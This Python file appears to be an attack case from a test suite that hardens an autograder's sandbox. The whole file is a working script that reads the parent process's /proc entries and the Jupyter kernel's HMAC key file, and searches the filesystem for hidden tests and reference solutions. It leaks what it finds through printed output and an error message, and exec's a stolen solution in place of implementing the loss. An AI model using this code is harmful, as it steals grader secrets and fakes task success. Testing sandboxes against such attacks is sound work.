"""Attack: find and read the reference solution and the hidden tests, print
them, put them in an error message, and use the reference if found.

Looks where a grader keeps them: /autograder (Gradescope), Otter's temporary
directory under /tmp, next to the Python installation (a repository holding
its own virtual environment), the grader's working directory, environment and
command line through /proc/<parent>, and a search of the whole filesystem.
Stopped by: as root the worker sees only a private view (system directories,
the Python installation, its own home) under its own user id, and /proc shows
it only its own processes; without namespaces the grader's directories are
closed to other users. Nothing found means nothing to print.
Honest score: 0 (the loss is never implemented).
"""

import os
import sys
import time

NAMES = {"nt_xent.py", "q2_nt_xent.py", "driver.ipynb", "otter_config.json"}
BUDGET_SECONDS = 2.5
found: dict[str, str] = {}


def _read(path):
    try:
        if os.path.isdir(path):
            found[path] = "listing: " + ", ".join(sorted(os.listdir(path))[:50])
        else:
            with open(path, errors="replace") as f:
                found[path] = f.read(20000)
    except OSError:
        pass


def _search():
    start = time.monotonic()
    parent = os.getppid()
    for name in ("cwd", "root", "environ", "cmdline"):
        _read(f"/proc/{parent}/{name}")
    for token in found.get(f"/proc/{parent}/cmdline", "").split("\0"):
        if token.endswith(".json"):  # the Jupyter kernel's connection file (its HMAC key)
            _read(token)
    guesses = ["/autograder", "/autograder/source/tests", "/autograder/results"]
    here = sys.prefix
    while here != "/":
        here = os.path.dirname(here)
        guesses += [f"{here}/solutions/nt_xent.py", f"{here}/grader/hidden/q2_nt_xent.py"]
    for path in guesses:
        _read(path)
    for top, folders, files in os.walk("/"):
        if time.monotonic() - start > BUDGET_SECONDS:
            break
        folders[:] = [f for f in folders if os.path.join(top, f) not in ("/proc", "/sys", "/dev")]
        for name in files:
            if name in NAMES and os.path.join(top, name) != os.path.abspath(__file__):
                _read(os.path.join(top, name))


_search()
SECRETS = {path: text for path, text in found.items() if not path.endswith("/cmdline")}
for path, text in SECRETS.items():
    print(f"LEAKED {path}:\n{text}")
REFERENCE = next((text for path, text in SECRETS.items() if path.endswith("solutions/nt_xent.py")), None)
if REFERENCE:
    exec(REFERENCE)  # noqa: S102 - defines nt_xent_loss from the stolen reference
else:

    def nt_xent_loss(z1, z2, temperature=0.5):
        if SECRETS:
            raise RuntimeError("LEAKED " + "\n".join(f"{p}: {t[:500]}" for p, t in SECRETS.items()))
        raise NotImplementedError("found nothing to read")
